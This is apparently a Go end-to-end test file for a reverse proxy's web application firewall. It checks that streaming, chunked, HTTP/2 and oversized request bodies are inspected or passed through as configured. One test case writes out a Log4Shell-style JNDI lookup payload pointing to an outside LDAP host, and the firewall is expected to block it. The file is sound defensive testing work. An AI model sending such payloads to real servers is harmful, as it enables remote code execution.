package e2e

import (
	"bufio"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"
)

const bodyRoutes = `
  - {match: app.example.test/upload/*, to: u, require: nothing, waf: {body: headers}, max_body: 2GiB}
  - {match: app.example.test/partial/*, to: u, require: nothing, waf: {body_limit: 16KiB, oversize: partial}, max_body: 2GiB}
  - {match: app.example.test, to: u, require: nothing, max_body: 2GiB}
  - {match: login.example.test, to: u, require: signed-in}
`

// startConversation is an upstream that answers each line of a request at once, while the request goes on.
func startConversation(t *testing.T) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		control := http.NewResponseController(w)
		if err := control.EnableFullDuplex(); err != nil {
			t.Error(err)
		}
		w.Header().Set("Content-Type", r.Header.Get("Content-Type"))
		control.Flush()
		lines := bufio.NewReader(r.Body)
		for {
			line, err := lines.ReadString('\n')
			if line != "" {
				io.WriteString(w, line)
				control.Flush()
			}
			if err != nil {
				return
			}
		}
	}))
	t.Cleanup(s.Close)
	return s.URL
}

// converse opens a request whose body goes on, and says first.
func (s *site) converse(t *testing.T, c *http.Client, path, kind, first string) (say io.WriteCloser, answers *bufio.Reader) {
	t.Helper()
	from, to := io.Pipe()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.base+path, from)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", kind)
	go io.WriteString(to, first)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { to.Close(); resp.Body.Close() })
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%s: got %s, want 200", path, resp.Status)
	}
	timer := time.AfterFunc(ioTimeout, func() { resp.Body.Close() })
	t.Cleanup(func() { timer.Stop() })
	return to, bufio.NewReader(resp.Body)
}

// A message of gRPC: not compressed, its length, and a line.
func grpcMessage(line string) string { return "\x00\x00\x00\x00" + string(rune(len(line))) + line }

// TestRequestsThatGoOnAreNotHeldBack has clients that say something and wait for the answer to it before they go on.
func TestRequestsThatGoOnAreNotHeldBack(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{upstream: startConversation(t), routes: bodyRoutes})
	s.clients(t, func(t *testing.T, c *http.Client) {
		for _, tt := range []struct {
			name, path, kind, first string
			then                    string
			h2                      bool
		}{
			{"body headers", "/upload/x", "application/x-www-form-urlencoded", "a=1\n", "b=" + injection + "\n", false},
			{"body headers, of a type that nobody reads", "/upload/x", "application/x-git-upload-pack-request", "0032want\n", "0009done\n", false},
			{"a part is inspected", "/partial/x", "text/plain", strings.Repeat("a quiet line of text\n", 800), "the rest is not, " + injection + "\n", false},
			{"gRPC", "/svc.Chat/Talk", "application/grpc", grpcMessage("hello\n"), grpcMessage("and again\n"), true},
			{"gRPC with a codec", "/svc.Chat/Talk", "application/grpc+proto", grpcMessage("hello\n"), grpcMessage("and again\n"), true},
		} {
			if tt.h2 && strings.HasSuffix(t.Name(), "HTTP/1.1") {
				continue
			}
			t.Run(tt.name, func(t *testing.T) {
				say, answers := s.converse(t, c, tt.path, tt.kind, tt.first)
				got := make([]byte, len(tt.first))
				if _, err := io.ReadFull(answers, got); err != nil || string(got) != tt.first {
					t.Fatalf("before the request goes on: got %d bytes (%v), want the first %d back", len(got), err, len(tt.first))
				}
				io.WriteString(say, tt.then)
				got = make([]byte, len(tt.then))
				if _, err := io.ReadFull(answers, got); err != nil || string(got) != tt.then {
					t.Fatalf("then: got %q (%v), want %q", got, err, tt.then)
				}
				say.Close()
				if rest, err := io.ReadAll(answers); err != nil || len(rest) > 0 {
					t.Errorf("at the end: got %q (%v), want nothing", rest, err)
				}
			})
		}
	})
}

// TestWhatStreamsIsInspectedFirst has the attacks that must be found although the body is not held, or not all of it.
func TestWhatStreamsIsInspectedFirst(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{routes: bodyRoutes})
	long := strings.Repeat("a quiet line of text\n", 2000)
	bad := `{"a":"` + injection + `"}`
	for _, tt := range []struct {
		name, path, kind, body string
		more                   []string
		want                   int
	}{
		{"the query, with body headers", "/upload/x?id=" + escapedInjection, "text/plain", "x", nil, 403},
		{"a cookie, with body headers", "/upload/x", "text/plain", "x", []string{"Cookie: a=" + injection}, 403},
		{"a header, with body headers", "/upload/x", "text/plain", "x", []string{"X-Api-Version: ${jndi:ldap://203.0.113.9/a}"}, 403},
		{"two types, with body headers", "/upload/x", "text/plain", "x", []string{"Content-Type: application/json"}, 400},
		{"nothing of the body, with body headers", "/upload/x", "application/json", bad, nil, 200},
		{"nor its coding", "/upload/x", "application/json", "\x1f\x8b\x08", []string{"Content-Encoding: gzip"}, 200},
		{"nor its type", "/upload/x", "text/html", "<p>x", nil, 200},
		{"the beginning of a long one", "/partial/x", "text/plain", "id=" + injection + "\n" + long, nil, 403},
		{"a long one that is harmless", "/partial/x", "text/plain", long, nil, 200},
		{"a short one, as ever", "/partial/x", "application/json", bad, nil, 403},
		{"an ordinary route: the type", "/x", "text/html", "<p>x", nil, 403},
		{"an ordinary route: the coding", "/x", "application/json", "\x1f\x8b\x08", []string{"Content-Encoding: gzip"}, 415},
		{"an ordinary route: gRPC that is none", "/x", "application/grpc", "id=" + injection, nil, 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			raw := request("POST", tt.path, tt.body, append([]string{"Content-Type: " + tt.kind}, tt.more...)...)
			s.threeWays(t, raw, func(way string, got answer) {
				want := tt.want
				if tt.kind == "application/grpc" && way == "HTTP/2" {
					want = 400 // it is read as it passes
				}
				if got.status != want {
					t.Errorf("%s: got %d, want %d\n%s", way, got.status, want, got.body)
				}
				for _, req := range s.backend.drain() {
					if want != 200 || req.body != tt.body {
						t.Errorf("%s: the upstream saw %.100q", way, req.body)
					}
				}
			})
		})
	}
}

// threeWays sends a request that has a Content-Length with it, in chunks, and in HTTP/2, and has each answer judged.
func (s *site) threeWays(t *testing.T, raw string, judge func(way string, got answer)) {
	t.Helper()
	fields, body := toH2(raw)
	judge("HTTP/1.1", sendRaw(t, s.addr, hostOf(raw), raw))
	judge("chunked", sendRaw(t, s.addr, hostOf(raw), inChunks(raw)))
	judge("HTTP/2", sendH2(t, s.addr, hostOf(raw), fields, body))
}

// inChunks is a request with its body in chunks of 7 bytes, so that nothing that a rule looks for is in one of them. One without a
// body stays as it is.
func inChunks(raw string) string {
	head, body, _ := strings.Cut(raw, "\r\n\r\n")
	if body == "" || strings.Contains(head, "\r\nTransfer-Encoding:") {
		return raw
	}
	var b strings.Builder
	for line := range strings.SplitSeq(head, "\r\n") {
		if !strings.HasPrefix(line, "Content-Length:") {
			b.WriteString(line + "\r\n")
		}
	}
	b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
	for len(body) > 0 {
		n := min(len(body), 7)
		fmt.Fprintf(&b, "%x\r\n%s\r\n", n, body[:n])
		body = body[n:]
	}
	return b.String() + "0\r\n\r\n"
}

// TestExpectContinue has a client that sends its body only if it is wanted.
func TestExpectContinue(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{routes: bodyRoutes})
	const body = "a=an+ordinary+value"
	for _, tt := range []struct {
		name, target string
		want         int
	}{
		{"an ordinary route", "/x", 200},
		{"an ordinary route, with an attack in the head", "/x?id=" + escapedInjection, 403},
		{"body headers", "/upload/x", 200},
		{"body headers, with an attack in the head", "/upload/x?id=" + escapedInjection, 403},
	} {
		t.Run(tt.name, func(t *testing.T) {
			conn := dialTLS(t, s.addr, appHost, "http/1.1")
			head, _, _ := strings.Cut(request("POST", tt.target, body, "Content-Type: application/x-www-form-urlencoded", "Expect: 100-continue"), "\r\n\r\n")
			io.WriteString(conn, head+"\r\n\r\n")
			r := bufio.NewReader(conn)
			resp, err := http.ReadResponse(r, &http.Request{Method: http.MethodPost})
			if err != nil {
				t.Fatal(err)
			}
			if tt.want != 200 && tt.target == "/upload/x?id="+escapedInjection && resp.StatusCode != tt.want {
				t.Fatalf("first answer: got %s, want %d before any byte of the body", resp.Status, tt.want)
			}
			if resp.StatusCode == http.StatusContinue {
				io.WriteString(conn, body)
				if resp, err = http.ReadResponse(r, &http.Request{Method: http.MethodPost}); err != nil {
					t.Fatal(err)
				}
			}
			if resp.StatusCode != tt.want {
				t.Errorf("got %s, want %d", resp.Status, tt.want)
			}
			for _, req := range s.backend.drain() {
				if req.body != body || tt.want != 200 {
					t.Errorf("the upstream saw %q", req.body)
				}
			}
		})
	}
}

// TestABodyThatIsTooLongSaysWhatAllowsIt uploads a file of 100 MB as a form to a route that has not been told of uploads.
func TestABodyThatIsTooLongSaysWhatAllowsIt(t *testing.T) {
	t.Parallel()
	s := startSite(t, siteSpec{upstream: startEcho(t), routes: bodyRoutes})
	const head = "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.iso\"\r\n\r\n"
	const size = 100 << 20
	form := func() io.Reader {
		return io.MultiReader(strings.NewReader(head), io.LimitReader(letters{}, size), strings.NewReader("\r\n--XyZ--\r\n"))
	}
	s.clients(t, func(t *testing.T, c *http.Client) {
		for _, length := range []int64{int64(len(head)) + size + 11, -1} {
			for path, want := range map[string]int{"/x": 413, "/upload/x": 200, "/partial/x": 200} {
				req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.base+path, form())
				if err != nil {
					t.Fatal(err)
				}
				req.ContentLength = length
				req.Header.Set("Content-Type", "multipart/form-data; boundary=XyZ")
				resp, body := send(t, c, req)
				if resp.StatusCode != want {
					t.Errorf("%s, length %d: got %s, want %d\n%s", path, length, resp.Status, want, body)
				}
				if want != http.StatusRequestEntityTooLarge {
					continue
				}
				if !strings.Contains(body, "larger than is accepted") {
					t.Errorf("%s: the answer does not say why:\n%s", path, body)
				}
				denied, _ := s.eventWithID(resp.Header.Get("X-Request-Id"))["denied"].(string)
				for _, want := range []string{"waf.body_limit", "waf.body headers", "1048576 bytes"} {
					if !strings.Contains(denied, want) {
						t.Errorf("%s: denied: got %q, want %s in it", path, denied, want)
					}
				}
			}
		}
	})
}
